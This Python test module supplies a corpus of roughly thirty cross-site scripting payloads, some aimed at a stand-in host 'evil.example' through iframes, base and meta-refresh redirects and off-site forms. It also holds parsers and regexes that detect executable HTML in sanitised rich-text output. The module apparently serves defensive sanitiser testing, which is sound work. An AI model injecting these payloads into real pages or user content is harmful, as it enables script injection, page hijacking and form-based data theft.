"""A hostile rich-text corpus and a finder of executable HTML constructs, shared by the
sanitiser, page, translation and email tests (and bench/xss_constructs.py)."""

from __future__ import annotations

import json
import re
from dataclasses import dataclass
from urllib.parse import urlsplit

from bs4 import BeautifulSoup

EVIL = "https://evil.example"

# Each payload tries one way to run script, load a third-party resource, or hijack the page.
PAYLOADS: dict[str, str] = {
    "script": "<script>alert(1)</script>",
    "script-src-upper": f"<SCRIPT SRC={EVIL}/x.js></SCRIPT>",
    "img-onerror": "<img src=x onerror=alert(2)>",
    "javascript-href": '<a href="javascript:alert(3)">three</a>',
    "data-href": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCg0KTwvc2NyaXB0Pg==">four</a>',
    "svg-onload": "<svg onload=alert(5)><circle r=1></circle></svg>",
    "iframe": f'<iframe src="{EVIL}/"></iframe>',
    "object": f'<object data="{EVIL}/x.swf"></object>',
    "embed-src": f'<embed src="{EVIL}/x.swf">',
    "style-import": f"<style>@import url({EVIL}/x.css);</style>",
    "base-href": f'<base href="{EVIL}/">',
    "meta-refresh": f'<meta http-equiv="refresh" content="0;url={EVIL}/">',
    "form-action": f'<form action="{EVIL}/"><input name="q"><button>Go</button></form>',
    "mathml-mxss": "<math><mtext><table><mglyph><style><img src=x onerror=alert(13)>",
    "svg-xlink": '<svg><a xlink:href="javascript:alert(14)"><text y="20">x</text></a></svg>',
    "entity-javascript": (
        '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(15)">e</a>'
    ),
    "mixed-case-space": '<a href="  JaVaScRiPt:alert(16)">m</a>',
    "tab-in-scheme": '<a href="jav&#x09;ascript:alert(17)">t</a>',
    "onclick-style-url": (
        '<p onclick="alert(19)" style="background:url(javascript:alert(19))">p</p>'
    ),
    "details-ontoggle": "<details open ontoggle=alert(20)><summary>d</summary></details>",
    "wagtail-link-smuggle": '<a linktype="page" id="1" onmouseover="alert(21)">w</a>',
    "wagtail-embed-smuggle": (
        '<embed embedtype="image" id="1" format="left" alt="x" onerror="a()"/>'
    ),
    "noscript-mxss": '<noscript><p title="</noscript><img src=x onerror=alert(23)>"></noscript>',
    "link-stylesheet": f'<link rel="stylesheet" href="{EVIL}/x.css">',
    "vbscript-href": '<a href="vbscript:msgbox(25)">v</a>',
    "video-source-onerror": '<video><source onerror="alert(26)"></video>',
    "input-autofocus": "<input autofocus onfocus=alert(27)>",
    "srcdoc": '<iframe srcdoc="&lt;script&gt;alert(28)&lt;/script&gt;"></iframe>',
    "svg-animate-href": (
        '<svg><a><animate attributeName="href" values="javascript:alert(29)"/>'
        '<text y="20">z</text></a></svg>'
    ),
    "broken-attr-quote": '<a href="https://ok.example/" title="x"onmouseover="alert(30)">q</a>',
}

# One paragraph block that carries every payload, amid ordinary editor-made text.
ALL_PAYLOADS_HTML = "<p>Before.</p>" + "".join(PAYLOADS.values()) + "<p>After.</p>"

_EXECUTABLE_TAGS = {"script", "iframe", "frame", "frameset", "object", "embed", "applet", "base"}
_URL_ATTRIBUTES = {
    "href",
    "src",
    "action",
    "formaction",
    "xlink:href",
    "data",
    "poster",
    "background",
    "lowsrc",
    "dynsrc",
    "codebase",
    "ping",
    "to",
    "from",
    "values",
    "by",
}
_BAD_SCHEMES = ("javascript:", "data:", "vbscript:")
_CONTROL = re.compile(r"[\x00-\x20]")
# A second net on the raw markup, for constructs a lenient parser could read differently from a
# browser: an unescaped tag opening with an executable name or an event-handler attribute.
_RAW_TAG = re.compile(r"<(script|iframe|object|embed|base|frame|applet)\b", re.I)
_RAW_OPEN_TAG = re.compile(r"<[a-z][^>]*>", re.I)
_QUOTED = re.compile(r"\"[^\"]*\"|'[^']*'")
_RAW_HANDLER = re.compile(r"[\s/\"']on[a-z]+\s*=", re.I)


@dataclass(frozen=True)
class Construct:
    tag: str
    what: str


def _off_site(url: str) -> bool:
    parts = urlsplit(url.strip())
    return bool(parts.scheme or parts.netloc) and parts.hostname not in {None, "testserver"}


def find_executable_constructs(html: str) -> list[Construct]:
    """Every element or attribute in `html` that would run script, load a third-party resource
    or re-target the page when a browser renders it."""
    found: list[Construct] = []
    soup = BeautifulSoup(html, "html.parser")
    for el in soup.find_all(True):
        tag = el.name.lower()
        attrs = {
            k.lower(): (" ".join(v) if isinstance(v, list) else v) for k, v in el.attrs.items()
        }
        if tag in _EXECUTABLE_TAGS and not _is_data_block(el):
            found.append(Construct(tag, "tag"))
        if tag == "meta" and "refresh" in (attrs.get("http-equiv") or "").lower():
            found.append(Construct(tag, "meta refresh"))
        if tag == "style" and re.search(r"@import|url\(|expression\(", el.get_text(), re.I):
            found.append(Construct(tag, "style import"))
        rel = (attrs.get("rel") or "").lower()
        if tag == "link" and re.search(r"stylesheet|import|preload|prefetch", rel):
            if _off_site(attrs.get("href") or ""):
                found.append(Construct(tag, "third-party stylesheet"))
        if tag in {"form", "button", "input"}:
            target = attrs.get("action") or attrs.get("formaction") or ""
            if _off_site(target):
                found.append(Construct(tag, "off-site form"))
        for name, value in attrs.items():
            value = value or ""
            if name.startswith("on"):
                found.append(Construct(tag, f"handler {name}"))
            elif name == "srcdoc":
                found.append(Construct(tag, "srcdoc"))
            elif name == "style" and re.search(r"url\(|expression\(|javascript:", value, re.I):
                found.append(Construct(tag, "style url"))
            elif name in _URL_ATTRIBUTES:
                normalised = _CONTROL.sub("", value).lower()
                if tag == "link" and "icon" in rel and normalised == "data:,":
                    continue  # base.html's empty favicon: no request, no script
                if any(scheme in normalised for scheme in _BAD_SCHEMES):
                    found.append(Construct(tag, f"{name}={normalised[:20]}"))
    return found


def _is_data_block(el) -> bool:
    """JSON-LD for search engines: never run by browsers, and inert if it is JSON whose text
    cannot end the element (our json_ld escapes every "<")."""
    if el.name.lower() != "script" or (el.get("type") or "").lower() != "application/ld+json":
        return False
    text = el.string or ""
    try:
        json.loads(text)
    except ValueError:
        return False
    return "<" not in text


_DATA_BLOCK_OPENING = '<script type="application/ld+json">'


def find_raw_constructs(html: str) -> list[str]:
    """The raw-markup net: unescaped executable tag openings and event-handler attributes."""
    found = [
        m.group(0)[:40]
        for m in _RAW_TAG.finditer(html)
        if not html.startswith(_DATA_BLOCK_OPENING, m.start())
    ]
    for tag in _RAW_OPEN_TAG.finditer(html):
        # Attribute values are quoted and escaped: only what lies outside them is markup.
        bare = _QUOTED.sub('""', tag.group(0))
        found += [tag.group(0)[:60] for _ in _RAW_HANDLER.finditer(bare)]
    return found
